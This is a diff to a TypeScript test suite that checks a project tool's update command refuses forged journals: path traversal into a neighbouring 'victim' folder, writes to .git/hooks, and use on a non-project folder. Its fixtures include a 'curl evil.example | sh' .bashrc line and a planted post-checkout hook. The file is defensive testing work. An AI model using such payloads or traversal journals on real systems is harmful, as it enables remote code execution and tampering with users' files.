@@ -11,6 +11,8 @@ import { commitAll, fixtureCopy, read, tree, update, write } from '../helpers/pr
 import { tempDir } from '../helpers/temp.js';
 
 const JOURNAL = '.cognito-jwt-api/update-journal.json';
+/** A journal in the form this tool writes, naming a staging folder of the form it makes. */
+const journal = (operations: Array<[string, boolean]>) => JSON.stringify({ staging: 'staging-AbC123', operations });
 
 /** A generated project beside a folder that is not the project's (the victim). */
 function projectBesideVictim() {
@@ -29,7 +31,7 @@ describe('update, given forged state files', () => {
   it('refuses a journal that names paths outside the project, touching nothing', async () => {
     const { project, victim, victimFiles } = projectBesideVictim();
     // The two-line journal of the report: delete ../victim/secret.txt, replace ../victim/.bashrc.
-    write(project, JOURNAL, JSON.stringify({ operations: [['../victim/secret.txt', false], ['../victim/.bashrc', true]] }));
+    write(project, JOURNAL, journal([['../victim/secret.txt', false], ['../victim/.bashrc', true]]));
     mkdirSync(path.join(project, '.cognito-jwt-api/victim'), { recursive: true });
     write(project, '.cognito-jwt-api/victim/.bashrc', 'curl evil.example | sh\n');
     const before = tree(project);
@@ -45,9 +47,11 @@ describe('update, given forged state files', () => {
 
   it('refuses a journal that writes under .git, touching nothing', async () => {
     const { project } = projectBesideVictim();
-    write(project, JOURNAL, JSON.stringify({ operations: [['.git/hooks/post-checkout', true]] }));
-    mkdirSync(path.join(project, '.cognito-jwt-api/staging/.git/hooks'), { recursive: true });
-    write(project, '.cognito-jwt-api/staging/.git/hooks/post-checkout', '#!/bin/sh\necho owned\n');
+    write(project, JOURNAL, journal([['.git/hooks/post-checkout', true]]));
+    for (const staging of ['staging', 'staging-AbC123/files']) {
+      mkdirSync(path.join(project, `.cognito-jwt-api/${staging}/.git/hooks`), { recursive: true });
+      write(project, `.cognito-jwt-api/${staging}/.git/hooks/post-checkout`, '#!/bin/sh\necho owned\n');
+    }
     const before = tree(project);
 
     const { code, err } = await update(project);
@@ -63,7 +67,7 @@ describe('update, given forged state files', () => {
     const folder = path.join(root, 'not-a-project');
     mkdirSync(path.join(folder, '.cognito-jwt-api'), { recursive: true });
     write(folder, 'README.md', 'mine\n');
-    write(folder, JOURNAL, JSON.stringify({ operations: [['README.md', false]] }));
+    write(folder, JOURNAL, journal([['README.md', false]]));
 
     const { code, err } = await update(folder);
 
